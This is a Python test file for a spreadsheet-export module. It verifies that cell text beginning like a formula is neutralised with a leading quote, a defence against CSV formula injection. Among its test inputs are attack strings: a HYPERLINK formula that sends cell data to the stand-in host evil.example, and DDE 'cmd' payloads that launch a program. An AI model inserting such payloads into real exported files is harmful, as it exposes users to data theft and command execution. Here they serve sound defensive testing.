"""No cell of a list begins a formula, whatever stands in it."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import handrail.console
from handrail.console.spreadsheet import STEERS, plain, sheet


@pytest.mark.promise("CON-14")
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1",
        "＠A", "\0=1", "- a list", "=", "@SUM(A1)",
    ],
)  # fmt: skip
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    assert plain(text) == f"'{text}"


@pytest.mark.promise("CON-14")
@given(st.text(max_size=30))
def test_no_text_begins_with_what_steers_a_spreadsheet(text: str) -> None:
    cell = str(plain(text))
    assert cell == text or cell == f"'{text}"
    assert cell[:1] not in STEERS | set("\t\r\n\0")
    assert cell.strip()[:1] not in STEERS


def test_numbers_and_plain_words_stay_as_they_are_and_lines_stay_one_record() -> None:
    data = sheet(("a", "b", "c"), [(-5, 1.5, 'two\nlines, and a "quote"'), ("x=1", True, "")])
    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [
        ["a", "b", "c"], ["-5", "1.5", 'two\nlines, and a "quote"'], ["x=1", "True", ""],
    ]  # fmt: skip


@pytest.mark.promise("CON-14")
def test_no_page_writes_a_list_in_another_way() -> None:
    """By the source: who writes cells does it there."""
    root = Path(handrail.console.__file__).parent
    own = [
        path.relative_to(root).as_posix()
        for path in sorted(root.rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Import) and any(each.name == "csv" for each in node.names)
    ]
    assert own == ["spreadsheet.py"]
